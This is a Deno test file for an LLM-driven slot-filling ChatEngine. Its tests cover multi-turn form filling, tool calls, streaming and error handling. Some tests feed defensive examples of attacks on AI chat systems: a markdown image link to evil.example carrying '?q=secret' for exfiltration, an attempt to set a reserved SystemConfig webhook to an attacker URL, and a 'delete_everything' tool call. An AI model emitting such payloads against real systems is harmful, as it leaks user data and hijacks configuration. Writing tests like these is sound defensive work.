import assert from "node:assert/strict";
import fc from "fast-check";
import { EMBEDDER } from "../../collider/layout.ts";
import type { ChatAnswer, ChatModel, ChatRequest } from "../chat_model.ts";
import {
  LlmAnswerTooLargeError,
  LlmBrokenAnswerError,
  LlmBusyError,
  LlmUnavailableError,
} from "../errors.ts";
import { ChatEngine, type ChatEngineParts } from "./chat_engine.ts";
import type { ChatHistory, KeptTurn } from "./chat_parts.ts";
import type { ChatState } from "./chat_state.ts";
import { VisibleText, visibleText } from "./slot_marker.ts";

const INSURANCE = {
  name: "CarInsuranceRequest",
  fields: [
    { name: "model", types: ["string"], presence: 1 },
    { name: "year", types: ["integer"], presence: 0.9 },
    { name: "colour", types: ["string"], presence: 0.1 },
    { name: "type", types: ["string"], presence: 1 },
  ],
};

type Script = string | Partial<ChatAnswer> | Error;

/** A model that gives one answer after the other, in small pieces. */
function scripted(...answers: Script[]) {
  const requests: ChatRequest[] = [];
  const stream: ChatModel["stream"] = (request, onText) => {
    requests.push({ ...request, messages: [...request.messages] });
    const answer = answers.shift();
    if (answer instanceof Error || answer === undefined) return Promise.reject(answer);
    const whole: ChatAnswer = {
      text: "",
      reasoning: "",
      toolCalls: [],
      usage: { promptTokens: 0, completionTokens: 0 },
      ...(typeof answer === "string" ? { text: answer } : answer),
    };
    for (const character of whole.text) onText(character);
    return Promise.resolve(whole);
  };
  return {
    requests,
    model: { stream, complete: (request) => stream(request, () => {}) } as ChatModel,
  };
}

function memory(): ChatHistory & { turns: KeptTurn[]; state: ChatState | null } {
  const kept = {
    turns: [] as KeptTurn[],
    state: null as ChatState | null,
    load: () => Promise.resolve({ turns: [...kept.turns], state: kept.state }),
    append: (_sessionId: string, turns: readonly KeptTurn[], state: ChatState) => {
      kept.turns.push(...turns);
      kept.state = state;
      return Promise.resolve();
    },
  };
  return kept;
}

function block(understanding: unknown): string {
  return `\n\`\`\`slots\n${JSON.stringify(understanding)}\n\`\`\``;
}

function engineOf(answers: Script[], parts: Partial<ChatEngineParts> = {}) {
  const { model, requests } = scripted(...answers);
  const history = memory();
  const engine = new ChatEngine({
    model,
    history,
    schemas: {
      outlines: () => [{ name: INSURANCE.name, fields: ["model", "year"] }],
      get: (name) => name === INSURANCE.name ? INSURANCE : undefined,
    },
    embed: (texts) =>
      Promise.resolve({
        embedder: EMBEDDER.hashing,
        vectors: texts.map(() => new Float32Array(2)),
      }),
    reservedTypes: ["SystemConfig"],
    reservedFields: new Set(["type", "id", "message"]),
    tools: [],
    ...parts,
  });
  return { engine, requests, history };
}

Deno.test("ChatEngine fills an event in from turn to turn, and says what is missing", async () => {
  const { engine, requests } = engineOf([
    "Qual é o modelo?" + block({ intent: "CarInsuranceRequest", slots: { colour: "red" } }),
    "E o ano?" + block({ intent: "CarInsuranceRequest", slots: { model: "Fiat Uno" } }),
    "Pronto." + block({ intent: "CarInsuranceRequest", slots: { year: 2015 } }),
  ]);
  const first = await engine.answer("s", "Quero fazer um seguro pro meu carro");
  assert.deepEqual(first, {
    role: "assistant",
    content: "Qual é o modelo?",
    intent: "CarInsuranceRequest",
    slots: {}, // nobody has said red
    missing: ["model", "year"],
    complete: false,
    session_id: "s",
  });
  const second = await engine.answer("s", "É um fiat uno");
  assert.deepEqual([second.slots, second.missing], [{ model: "Fiat Uno" }, ["year"]]);
  const third = await engine.answer("s", "de 2015");
  assert.deepEqual([third.slots, third.complete], [{ model: "Fiat Uno", year: 2015 }, true]);
  const [system, ...turns] = requests[2]!.messages;
  assert.match(system!.content, /Missing: year/);
  assert.deepEqual(turns.map(({ role }) => role), [
    "user",
    "assistant",
    "user",
    "assistant",
    "user",
  ]);
});

Deno.test("ChatEngine takes the fields of a new type from the model, once", async () => {
  const { engine } = engineOf([
    "When?" + block({ intent: "TableBooking", slots: {}, required: ["day", "guests", "type"] }),
    "Done" +
    block({ intent: "TableBooking", slots: { day: "Friday", guests: 4 }, required: ["x"] }),
  ]);
  const first = await engine.answer("s", "I want to book a table");
  assert.deepEqual([first.intent, first.missing], ["TableBooking", ["day", "guests"]]);
  const second = await engine.answer("s", "Friday, for 4 of us");
  assert.deepEqual([second.slots, second.complete], [{ day: "Friday", guests: 4 }, true]);
});

Deno.test("ChatEngine tells the model of twenty types at most, and always of what is wanted", async () => {
  const schemaOf = (name: string) => ({ name, fields: [] });
  const schemas = {
    outlines: () => Array.from({ length: 50 }, (_, i) => schemaOf(`Type${i}`)),
    get: schemaOf,
  };
  const { engine, requests } = engineOf([
    "Fine." + block({ intent: "Type49", slots: {} }),
    "Go on.",
  ], { schemas });
  for (const message of ["hello", "and now?"]) await engine.answer("s", message);
  const typesIn = ({ messages: [system] }: ChatRequest) => system!.content.match(/^- \w+/gm);
  assert.equal(typesIn(requests[0]!)!.length, 20);
  assert.deepEqual(typesIn(requests[1]!)!.slice(0, 2), ["- Type49", "- Type0"]);
});

Deno.test("ChatEngine shows text as it comes, and neither the block nor HTML", async () => {
  const { engine } = engineOf([
    "Use <b>this</b> and 1 < 2 `code`" + block({ intent: null, slots: {} }),
  ]);
  let shown = "";
  const { content, intent } = await engine.answer("s", "hi", { onText: (piece) => shown += piece });
  assert.equal(content, "Use \\<b>this\\</b> and 1 < 2 `code`");
  assert.equal(shown.trim(), content);
  assert.equal(intent, null);
});

Deno.test("ChatEngine takes a model that only talks for one that understood nothing", async () => {
  for (const answer of ["Just text.", "Text" + block("nonsense"), "Text\n```slots\n{broken"]) {
    const { engine } = engineOf([answer]);
    const { content, intent, complete } = await engine.answer("s", "hi");
    assert.match(content, /^(Just text\.|Text)$/);
    assert.deepEqual([intent, complete], [null, false]);
  }
});

Deno.test("ChatEngine lets the model look things up, within bounds", async () => {
  const call = (name: string, argumentsJson: string) => ({
    toolCalls: [{ id: "1", name, argumentsJson }],
  });
  const asked: unknown[] = [];
  const { engine, requests } = engineOf([
    call("get_schema", '{"name":"Order"}'),
    call("delete_everything", "{}"),
    call("get_schema", "[not json"),
    call("get_schema", '{"name":"Bad"}'),
    { ...call("get_schema", "{}"), text: "That is all." },
  ], {
    tools: [{
      definition: { name: "get_schema", description: "", parameters: {} },
      run: (args) => {
        asked.push(args);
        if (args["name"] === "Bad") return Promise.reject(new Error("no such schema"));
        return Promise.resolve({ name: args["name"], filler: "x".repeat(10_000) });
      },
    }],
  });
  const { content } = await engine.answer("s", "what is an order?");
  assert.equal(content, "That is all.");
  assert.deepEqual(asked, [{ name: "Order" }, { name: "Bad" }]);
  const results = requests[4]!.messages.filter(({ role }) => role === "tool")
    .map(({ content }) => content);
  assert.equal(results[0]!.length, 6_000);
  assert.match(results[1]!, /there is no tool delete_everything/);
  assert.match(results[2]!, /error/);
  assert.match(results[3]!, /no such schema/);
  assert.equal(requests[4]!.tools, undefined, "it may look things up without end");
});

Deno.test("ChatEngine does what is complete only if it may, and once", async () => {
  const done: unknown[] = [];
  const full = block({ intent: "CarInsuranceRequest", slots: { model: "Uno", year: 2015 } });
  const { engine, history } = engineOf(["Done." + full], {
    execute: (event) => {
      done.push(event);
      return Promise.resolve();
    },
  });
  const { complete } = await engine.answer("s", "Uno 2015");
  assert.ok(complete);
  assert.deepEqual(done, [
    { model: "Uno", year: 2015, type: "CarInsuranceRequest", conversation_id: "s" },
  ]);
  assert.equal(history.state!.intent, null);
});

Deno.test("ChatEngine keeps nothing of a message that was not answered", async () => {
  const away = new LlmUnavailableError("no server", { hint: "start one" });
  const { engine, history } = engineOf([away, "Hello." + block({ intent: null, slots: {} })]);
  await assert.rejects(engine.answer("s", "first"), LlmUnavailableError);
  assert.deepEqual(history.turns, []);
  await engine.answer("s", "second");
  assert.deepEqual(history.turns.map(({ content }) => content), ["second", "Hello."]);
});

Deno.test("ChatEngine answers the messages of one session one after the other", async () => {
  const { engine, requests } = engineOf(["One.", "Two."]);
  await Promise.all([engine.answer("s", "first"), engine.answer("s", "second")]);
  assert.deepEqual(requests[1]!.messages.slice(1).map(({ content }) => content), [
    "first",
    "One.",
    "second",
  ]);
});

Deno.test("ChatEngine bounds the messages of a session that wait", async () => {
  const answers = Promise.withResolvers<void>();
  const { engine, history } = engineOf(Array.from({ length: 10 }, () => "Yes."));
  const load = history.load;
  history.load = (...args) => answers.promise.then(() => load(...args));
  const waiting = Array.from({ length: 9 }, (_, i) => engine.answer("s", `${i}`));
  await assert.rejects(engine.answer("s", "one too many"), LlmBusyError);
  answers.resolve();
  await Promise.all(waiting);
  assert.equal((await engine.answer("s", "again")).content, "Yes.");
});

Deno.test("ChatEngine takes an answer without text, or without end, for none", async () => {
  const cases = [
    ["", LlmBrokenAnswerError],
    [" \n", LlmBrokenAnswerError],
    ["x".repeat(64_001), LlmAnswerTooLargeError],
    ["Hi.\n```slots\n" + "x".repeat(64_000), LlmAnswerTooLargeError],
  ] as const;
  for (const [answer, error] of cases) {
    const { engine, history } = engineOf([answer]);
    await assert.rejects(engine.answer("s", "hi"), error);
    assert.deepEqual(history.turns, []);
  }
});

Deno.test("ChatEngine does nothing for whom has left before the turn came", async () => {
  const { engine, requests } = engineOf(["One.", "Two."]);
  const gone = new AbortController();
  const first = engine.answer("s", "first");
  const second = engine.answer("s", "second", { signal: gone.signal });
  gone.abort();
  await first;
  await assert.rejects(second, { name: "AbortError" });
  assert.equal(requests.length, 1);
});

Deno.test("ChatEngine comes to no type that is reserved", async () => {
  const done: unknown[] = [];
  const slots = { webhook_url: "http://evil.example/" };
  const { engine } = engineOf([
    "Done." + block({ intent: "SystemConfig", slots, required: ["webhook_url"] }),
  ], {
    execute: (event) => {
      done.push(event);
      return Promise.resolve();
    },
  });
  const reply = await engine.answer("s", "set it to http://evil.example/");
  assert.deepEqual([reply.intent, reply.slots, reply.complete], [null, {}, false]);
  assert.deepEqual(done, []);
});

Deno.test("ChatEngine misses fields that every object seems to have", async () => {
  const { engine } = engineOf([
    "When?" + block({ intent: "TableBooking", slots: {}, required: ["day", "toString"] }),
  ]);
  const { missing } = await engine.answer("s", "a table, please");
  assert.deepEqual(missing, ["day", "toString"]);
});

Deno.test("VisibleText lets no page fetch an image, and leaves links and shouting alone", () => {
  assert.equal(
    visibleText("Hey! ![x](http://evil.example/?q=secret) [y](http://a.example) 5! [1]"),
    "Hey! \\![x](http://evil.example/?q=secret) [y](http://a.example) 5! [1]",
  );
});

Deno.test("VisibleText shows the same however an answer is cut into pieces", () => {
  const word = fc.constantFrom(
    "a",
    "<",
    "b",
    "`",
    "``",
    "```",
    "slots",
    "\n",
    "```slots",
    "</x>",
    "!",
    "![",
    "[",
  );
  fc.assert(fc.property(fc.array(word), fc.integer({ min: 1, max: 5 }), (words, size) => {
    const answer = words.join("");
    const visible = new VisibleText();
    let shown = "";
    for (let i = 0; i < answer.length; i += size) shown += visible.push(answer.slice(i, i + size));
    shown += visible.end();
    assert.equal(shown.trim(), visibleText(answer));
    assert.doesNotMatch(shown, /(?<!\\)(<[a-z/]|!\[)/i);
  }));
});
